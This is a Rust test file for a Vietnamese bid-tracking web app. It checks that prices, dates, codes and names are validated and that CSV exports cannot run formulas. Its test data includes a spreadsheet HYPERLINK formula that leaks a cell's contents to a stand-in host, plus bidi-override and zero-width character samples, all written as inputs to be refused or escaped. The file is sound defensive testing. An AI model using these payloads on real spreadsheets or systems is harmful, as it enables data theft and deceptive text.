//! Input within the law's world and text that means what it shows (security review, issue 16,
//! findings 4, 6 and 8): money and dates in range, no control or hidden characters, notice and
//! unit codes normalised before they are compared, and CSV cells a spreadsheet will not run.

use crate::client::Client;
use crate::db_test;
use crate::support::*;
use axum::http::StatusCode;
use bidtrack::domain::money::MAX_VND;
use serde_json::{Value, json};

const PACKAGES: &str = "/api/v1/packages";

/// The `(field, code)` pairs of a validation problem.
fn field_codes(p: &Value) -> Vec<(String, String)> {
    p["errors"]
        .as_array()
        .expect("errors")
        .iter()
        .map(|e| {
            (
                e["field"].as_str().unwrap_or_default().to_owned(),
                e["code"].as_str().unwrap_or_default().to_owned(),
            )
        })
        .collect()
}

/// The message of the first error about `field`.
fn message(p: &Value, field: &str) -> String {
    p["errors"]
        .as_array()
        .expect("errors")
        .iter()
        .find(|e| e["field"] == field)
        .and_then(|e| e["message"].as_str())
        .unwrap_or_else(|| panic!("no error about {field}: {p}"))
        .to_owned()
}

fn with(mut body: Value, key: &str, value: Value) -> Value {
    body[key] = value;
    body
}

db_test!(prices_stop_at_the_ceiling, |db: TestDb| async move {
    let c = Client::new(&db);
    let province = c.unit("P", "province", None).await;
    let district = c.unit("P-D", "district", Some(province)).await;
    let body = |price: i64| {
        json!({"unit_id": district, "name": "Gói lớn", "plan_year": 2019, "field": "works",
               "method": "open_bidding", "package_price_vnd": price, "online": true})
    };
    for price in [i64::MAX, MAX_VND + 1] {
        let p = c
            .post(PACKAGES, &body(price))
            .await
            .problem(422, "validation_failed");
        assert_eq!(
            field_codes(&p),
            [("package_price_vnd".to_owned(), "range".to_owned())]
        );
        assert_eq!(
            message(&p, "package_price_vnd"),
            "Giá gói thầu tối đa 1.000.000.000.000.000 ₫"
        );
    }
    // The ceiling itself is a package, twice over in one unit, and the sums still add up.
    let first = c.package(body(MAX_VND)).await;
    c.package(body(MAX_VND)).await;
    let r = c
        .get(&format!("/api/v1/compliance?unit_id={province}&year=2019"))
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text);

    // A patch is checked after it is merged: the same ceiling, and for the winning price.
    let url = format!("{PACKAGES}/{}", first["id"]);
    let p = c
        .patch(&url, &json!({"package_price_vnd": i64::MAX}), Some("\"1\""))
        .await
        .problem(422, "validation_failed");
    assert_eq!(
        field_codes(&p),
        [("package_price_vnd".to_owned(), "range".to_owned())]
    );
    let p = c
        .patch(
            &url,
            &json!({"status": "awarded", "result_date": "2019-06-30", "winning_price_vnd": i64::MAX}),
            Some("\"1\""),
        )
        .await
        .problem(422, "validation_failed");
    assert!(
        field_codes(&p).contains(&("winning_price_vnd".to_owned(), "range".to_owned())),
        "{p}"
    );
    assert_eq!(
        message(&p, "winning_price_vnd"),
        "Giá trúng thầu tối đa 1.000.000.000.000.000 ₫"
    );
    // Below one đồng keeps its own message.
    let p = c
        .post(PACKAGES, &body(0))
        .await
        .problem(422, "validation_failed");
    assert_eq!(
        message(&p, "package_price_vnd"),
        "Giá gói thầu phải lớn hơn 0"
    );
});

db_test!(dates_stay_within_2000_to_2100, |db: TestDb| async move {
    let c = Client::new(&db);
    let unit = c.unit("D", "district", None).await;
    let awarded = |date: &str| {
        let mut b = package_body(unit, "Gói có kết quả");
        b["status"] = json!("awarded");
        b["award_decision_no"] = json!("1/QĐ-UBND");
        b["contractor_name"] = json!("Công ty A");
        b["winning_price_vnd"] = json!(400_000_000i64);
        b["result_date"] = json!(date);
        b
    };
    for date in ["-0001-01-01", "+10000-01-01", "1999-12-31", "2101-01-01"] {
        let r = c.post(PACKAGES, &awarded(date)).await;
        let p = r.problem(422, "validation_failed");
        assert_eq!(
            field_codes(&p),
            [("result_date".to_owned(), "range".to_owned())],
            "{date}"
        );
    }
    for date in ["2000-01-01", "2100-12-31"] {
        c.package(awarded(date)).await;
    }
    // A unit's validity dates: the same bounds.
    for field in ["valid_from", "valid_to"] {
        let p = c
            .post(
                "/api/v1/units",
                &json!({"code": "X", "name": "X", "kind": "commune", field: "-0001-01-01"}),
            )
            .await
            .problem(422, "validation_failed");
        assert_eq!(field_codes(&p), [(field.to_owned(), "range".to_owned())]);
    }
});

db_test!(
    control_and_hidden_characters_are_refused,
    |db: TestDb| async move {
        let c = Client::new(&db);
        let unit = c.unit("D", "district", None).await;
        let cases = [
            ("name", "Gói\u{0}thầu", "control_character"),
            ("name", "Gói\u{1b}[31mthầu", "control_character"),
            ("name", "Gói thầu\nhai dòng", "line_break"),
            ("name", "Gói \u{202e}uầht iớm", "hidden_character"),
            ("name", "Gói \u{2066}thầu\u{2069}", "hidden_character"),
            ("name", "Gói\u{200b}thầu", "hidden_character"),
            ("funding_source", "Ngân sách\u{0}", "control_character"),
            ("contractor_name", "Công ty\u{202d}", "hidden_character"),
            ("notes", "dòng 1\u{0}", "control_character"),
        ];
        for (field, value, code) in cases {
            let p = c
                .post(
                    PACKAGES,
                    &with(package_body(unit, "Gói"), field, json!(value)),
                )
                .await
                .problem(422, "validation_failed");
            assert_eq!(
                field_codes(&p),
                [(field.to_owned(), code.to_owned())],
                "{value:?}"
            );
        }
        let p = c
            .post(PACKAGES, &package_body(unit, "Gói\u{0}thầu"))
            .await
            .problem(422, "validation_failed");
        assert!(message(&p, "name").starts_with("Tên gói thầu"), "{p}");
        // Notes are the one multi-line field: tabs and line breaks (CRLF from a browser) stay.
        let notes = "dòng 1\r\ndòng 2\n\tthụt lề";
        let created = c
            .package(with(
                package_body(unit, "Gói có ghi chú"),
                "notes",
                json!(notes),
            ))
            .await;
        assert_eq!(created["notes"], notes);
        // A patch is checked too.
        let url = format!("{PACKAGES}/{}", created["id"]);
        let p = c
            .patch(&url, &json!({"name": "Đổi\u{0}tên"}), Some("\"1\""))
            .await
            .problem(422, "validation_failed");
        assert_eq!(
            field_codes(&p),
            [("name".to_owned(), "control_character".to_owned())]
        );
        // Units and target rules.
        let p = c
            .post(
                "/api/v1/units",
                &json!({"code": "X", "name": "Phường\u{0}X", "kind": "commune"}),
            )
            .await
            .problem(422, "validation_failed");
        assert_eq!(
            field_codes(&p),
            [("name".to_owned(), "control_character".to_owned())]
        );
        let p = c
            .post(
                "/api/v1/targets",
                &json!({"code": "T_2019", "name": "Chỉ tiêu \u{202e}", "legal_basis": "Điều 1\u{0}",
                    "year_from": 2019, "min_count_percent": 50,
                    "methods": [{"method": "competitive_offers"}]}),
            )
            .await
            .problem(422, "validation_failed");
        assert_eq!(
            field_codes(&p),
            [
                ("name".to_owned(), "hidden_character".to_owned()),
                ("legal_basis".to_owned(), "control_character".to_owned())
            ]
        );
    }
);

db_test!(
    a_nul_in_a_search_is_a_problem_not_a_crash,
    |db: TestDb| async move {
        let c = Client::new(&db);
        let unit = c.unit("D", "district", None).await;
        c.package(package_body(unit, "Gói thầu")).await;
        for uri in [
            "/api/v1/packages?q=%00",
            "/api/v1/units?q=a%00b",
            "/api/v1/reports/packages?q=%00&format=csv",
        ] {
            let p = c.get(uri).await.problem(422, "validation_failed");
            assert_eq!(field_codes(&p)[0].0, "q", "{uri}");
        }
        // The HTML list folds the search text: no control character reaches the database.
        let r = c.get("/packages?q=g%C3%B3i%00").await;
        assert_eq!(r.status, StatusCode::OK, "{}", r.text);
    }
);

db_test!(
    notice_codes_are_normalised_before_they_are_compared,
    |db: TestDb| async move {
        let c = Client::new(&db);
        let unit = c.unit("D", "district", None).await;
        let coded = |code: &str| with(package_body(unit, "Gói"), "code", json!(code));
        let first = c.package(coded(" ib1900000001 ")).await;
        assert_eq!(first["code"], "IB1900000001");
        for same in ["IB1900000001", "ib1900000001", "ＩＢ１９０００００００１"] {
            c.post(PACKAGES, &coded(same))
                .await
                .problem(409, "duplicate_code");
        }
        // Look-alike and invisible characters are not a new package.
        for (code, problem) in [
            ("I\u{0411}1900000001", "not_ascii"),
            ("\u{0406}B1900000001", "not_ascii"),
            ("IB19000\u{200b}00001", "hidden_character"),
            ("IB1900000001\u{0}", "control_character"),
            ("=1+1", "invalid"),
            ("IB 1900000001", "invalid"),
        ] {
            let p = c
                .post(PACKAGES, &coded(code))
                .await
                .problem(422, "validation_failed");
            assert_eq!(
                field_codes(&p),
                [("code".to_owned(), problem.to_owned())],
                "{code:?}"
            );
            assert!(
                message(&p, "code").starts_with("Số thông báo mời thầu"),
                "{p}"
            );
        }
        // The plan code follows the same rule; a patch is normalised as well.
        let p = c
            .post(
                PACKAGES,
                &with(coded("IB1900000002"), "plan_code", json!("PL19\u{0430}")),
            )
            .await
            .problem(422, "validation_failed");
        assert_eq!(
            field_codes(&p),
            [("plan_code".to_owned(), "not_ascii".to_owned())]
        );
        let second = c
            .package(with(
                coded("IB1900000002"),
                "plan_code",
                json!("pl1900001234"),
            ))
            .await;
        assert_eq!(second["plan_code"], "PL1900001234");
        let url = format!("{PACKAGES}/{}", second["id"]);
        c.patch(&url, &json!({"code": "ib1900000001"}), Some("\"1\""))
            .await
            .problem(409, "duplicate_code");
        let r = c
            .patch(&url, &json!({"code": "ib1900000003"}), Some("\"1\""))
            .await;
        assert_eq!(r.status, StatusCode::OK, "{}", r.text);
        assert_eq!(r.json()["code"], "IB1900000003");
    }
);

db_test!(
    unit_codes_are_normalised_before_they_are_compared,
    |db: TestDb| async move {
        let c = Client::new(&db);
        let r = c
            .post(
                "/api/v1/units",
                &json!({"code": " hn-hadong ", "name": "Quận Hà Đông", "kind": "district"}),
            )
            .await;
        assert_eq!(r.status, StatusCode::CREATED, "{}", r.text);
        assert_eq!(r.json()["code"], "HN-HADONG");
        let id = r.json()["id"].as_i64().expect("id");
        c.post(
            "/api/v1/units",
            &json!({"code": "HN-HADONG", "name": "Trùng", "kind": "district"}),
        )
        .await
        .problem(409, "duplicate_code");
        for code in [".", "..", "-HN", "_", "HN/HD", "HN-HАDONG", "HN\u{200b}"] {
            let p = c
                .post(
                    "/api/v1/units",
                    &json!({"code": code, "name": "X", "kind": "district"}),
                )
                .await
                .problem(422, "validation_failed");
            assert_eq!(field_codes(&p)[0].0, "code", "{code:?}");
        }
        // A change of code is normalised too.
        let r = c
            .patch(
                &format!("/api/v1/units/{id}"),
                &json!({"code": "hn-hd"}),
                None,
            )
            .await;
        assert_eq!(r.status, StatusCode::OK, "{}", r.text);
        assert_eq!(r.json()["code"], "HN-HD");
    }
);

db_test!(display_names_are_plain_text, |db: TestDb| async move {
    use bidtrack::error::AppError;
    use bidtrack::services::accounts::{Actor, NewUser, create_user};
    for (name, code) in [
        ("Nguyễn\u{0}Văn A", "control_character"),
        ("Nguyễn Văn A\u{202e}", "hidden_character"),
        ("Nguyễn\nVăn A", "line_break"),
    ] {
        let user = NewUser {
            username: "nva".to_owned(),
            display_name: name.to_owned(),
            password: "mật khẩu đủ dài".to_owned(),
            role: entity::Role::Viewer,
            unit_id: None,
        };
        match create_user(&db.conn, &Actor::system(), user).await {
            Err(AppError::Validation(errors)) => {
                let got: Vec<_> = errors
                    .iter()
                    .map(|e| (e.field.as_str(), e.code.as_str()))
                    .collect();
                assert_eq!(got, [("display_name", code)], "{name:?}");
                assert!(errors[0].message.starts_with("Họ tên"), "{errors:?}");
            }
            other => panic!("{name:?}: {other:?}"),
        }
    }
});

db_test!(
    forms_show_the_same_refusals_beside_their_fields,
    |db: TestDb| async move {
        let c = Client::new(&db);
        let unit = c.unit("D", "district", None).await.to_string();
        let r = c
            .form(
                "/packages/new",
                &[
                    ("unit_id", unit.as_str()),
                    ("name", "Gói \u{202e}thầu"),
                    ("code", "I\u{0411}1900000001"),
                    ("plan_year", "2019"),
                    ("field", "goods"),
                    ("method", "competitive_offers"),
                    ("status", "awarded"),
                    ("package_price_vnd", "1.000.000.000.000.001"),
                    ("winning_price_vnd", "100.000.000"),
                    ("result_date", "01/01/1999"),
                    ("notes", "dòng 1\r\ndòng 2"),
                ],
            )
            .await;
        assert_eq!(r.status, 422, "{}", r.text);
        let page = scraper::Html::parse_document(&r.text);
        let error = |id: &str| {
            let sel = scraper::Selector::parse(&format!("#{id}-error")).expect("selector");
            page.select(&sel)
                .next()
                .map(|e| e.text().collect::<String>().trim().to_owned())
                .unwrap_or_else(|| panic!("no message beside {id}"))
        };
        assert!(error("name").starts_with("Tên gói thầu chứa ký tự ẩn U+202E"));
        assert!(error("code").starts_with("Số thông báo mời thầu chỉ gồm"));
        assert_eq!(
            error("package_price_vnd"),
            "Giá gói thầu tối đa 1.000.000.000.000.000 ₫"
        );
        assert_eq!(
            error("result_date"),
            "Ngày phê duyệt kết quả phải trong khoảng 01/01/2000 – 31/12/2100"
        );
        // Units: the code is normalised, `..` explained beside the field.
        let r = c
            .form(
                "/units/new",
                &[("code", ".."), ("name", "Phường X"), ("kind", "commune")],
            )
            .await;
        assert_eq!(r.status, 422, "{}", r.text);
        assert!(
            r.text.contains("bắt đầu bằng chữ cái hoặc chữ số"),
            "{}",
            r.text
        );
    }
);

db_test!(
    a_nul_that_reaches_postgres_is_a_client_error,
    |db: TestDb| async move {
        use bidtrack::error::AppError;
        use sea_orm::{ConnectionTrait, Statement};
        // Every input path refuses control characters before a query; this is the net below them.
        let statement = Statement::from_sql_and_values(
            db.conn.get_database_backend(),
            if db.engine_name() == "postgres" {
                "SELECT $1::text AS t"
            } else {
                "SELECT ? AS t"
            },
            ["a\u{0}b".into()],
        );
        match db.conn.query_one_raw(statement).await {
            // SQLite stores a NUL like any character.
            Ok(_) => assert_eq!(db.engine_name(), "sqlite"),
            Err(e) => match AppError::from(e) {
                e @ AppError::Rule { .. } => assert_eq!(e.code(), "invalid_text"),
                other => panic!("{other:?}"),
            },
        }
    }
);

db_test!(csv_text_cells_cannot_be_formulas, |db: TestDb| async move {
    let c = Client::new(&db);
    let unit = c.unit("D", "district", None).await;
    let hyperlink = "=HYPERLINK(\"http://x.example/?d=\"&A2,\"Xem\")";
    for name in ["=1+1", hyperlink, "+1", "-1", "@SUM(A1)"] {
        c.package(package_body(unit, name)).await;
    }
    let r = c
        .get(&format!(
            "/api/v1/reports/packages?unit_id={unit}&plan_year=2019&format=csv"
        ))
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text);
    let mut rows = csv::Reader::from_reader(r.text.trim_start_matches('\u{feff}').as_bytes());
    let headers = rows.headers().expect("headers").clone();
    let column = |title: &str| {
        headers
            .iter()
            .position(|h| h == title)
            .unwrap_or_else(|| panic!("no column {title} in {headers:?}"))
    };
    let (name, price) = (column("Tên gói thầu"), column("Giá gói thầu (đồng)"));
    let mut names = Vec::new();
    for row in rows.records() {
        let row = row.expect("a row");
        names.push(row[name].to_owned());
        assert_eq!(&row[price], "500000000", "money stays a plain number");
    }
    assert_eq!(
        names,
        ["'=1+1", &format!("'{hyperlink}"), "'+1", "'-1", "'@SUM(A1)"]
    );
    // The JSON of the same report keeps the names as they are.
    let j = c
        .get(&format!(
            "/api/v1/reports/packages?unit_id={unit}&plan_year=2019"
        ))
        .await
        .json();
    assert_eq!(j["rows"][0]["cells"]["name"], "=1+1");
});

db_test!(
    import_error_csv_cannot_hold_formulas,
    |db: TestDb| async move {
        add_unit(&db.conn, "HN-HD", entity::UnitKind::District, None).await;
        let c = Client::new(&db);
        let file = "Mã đơn vị,Tên gói thầu,Năm kế hoạch,Lĩnh vực,Hình thức lựa chọn nhà thầu,Giá gói thầu,Qua mạng\n\
                \"=HYPERLINK(\"\"http://x.example/\"\",\"\"Xem\"\")\",Gói,2019,HH,CHCT,100.000.000,Có\n\
                HN-HD,Gói 2,2019,HH,CHCT,-5,Có\n";
        let r = c
            .post_bytes(
                "/api/v1/imports/packages?errors=csv",
                "text/csv",
                file.as_bytes().to_vec(),
            )
            .await;
        assert_eq!(r.status, 422, "{}", r.text);
        let mut rows = csv::Reader::from_reader(r.text.trim_start_matches('\u{feff}').as_bytes());
        let values: Vec<String> = rows
            .records()
            .map(|row| row.expect("a row")[2].to_owned())
            .collect();
        assert!(
            values.contains(&"'=HYPERLINK(\"http://x.example/\",\"Xem\")".to_owned()),
            "{values:?}"
        );
        assert!(values.contains(&"'-5".to_owned()), "{values:?}");
        assert!(
            values.iter().all(|v| !v.starts_with(['=', '+', '-', '@'])),
            "{values:?}"
        );
    }
);
